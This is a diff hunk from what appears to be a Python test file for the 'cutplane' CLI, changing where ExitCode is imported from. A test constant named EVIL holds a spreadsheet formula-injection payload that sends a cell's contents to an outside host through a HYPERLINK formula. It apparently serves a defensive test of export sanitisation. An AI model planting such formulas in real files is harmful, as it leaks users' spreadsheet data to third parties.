@@ -10,7 +10,7 @@ from hypothesis import strategies as st
 from typer.testing import CliRunner
 
 from cutplane.cli.app import app
-from cutplane.cli.errors import ExitCode
+from cutplane.cli.process import ExitCode
 from cutplane.io.labels import harmless
 
 EVIL = '=HYPERLINK("http://example.org/?"&A1,"x")'
